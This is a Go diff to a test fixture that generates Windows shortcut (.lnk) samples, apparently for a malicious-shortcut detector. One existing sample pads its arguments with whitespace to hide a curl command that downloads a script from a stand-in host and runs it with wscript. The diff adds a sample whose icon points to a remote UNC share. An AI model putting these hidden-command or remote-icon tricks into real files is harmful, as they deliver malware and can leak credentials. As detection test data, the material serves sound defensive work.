@@ -82,8 +82,9 @@ func files() map[string][]byte {
 			args: strings.Repeat(" ", 200) + `/c curl https://drop.example/a.js -o %TEMP%\a.js && wscript %TEMP%\a.js`, icon: `%ProgramFiles%\Microsoft\Edge\Application\msedge.exe`,
 			tail: []byte(sample.Marker),
 		}.bytes(),
-		"honest": shortcut{local: `C:\Program Files\Editor\editor.exe`, show: 1, narrow: true, dir: `C:\Program Files\Editor`}.bytes(),
-		"eicar":  shortcut{local: `C:\x.txt`, tail: sample.EICAR()}.bytes(),
+		"server-icon": shortcut{local: `C:\Windows\System32\notepad.exe`, icon: `\\files.example\share\document.ico`}.bytes(),
+		"honest":      shortcut{local: `C:\Program Files\Editor\editor.exe`, show: 1, narrow: true, dir: `C:\Program Files\Editor`}.bytes(),
+		"eicar":       shortcut{local: `C:\x.txt`, tail: sample.EICAR()}.bytes(),
 		"items": shortcut{items: [][]byte{
 			append([]byte{0x1f, 0x50}, make([]byte, 16)...),
 			[]byte("\x2fC:\\\x00"),
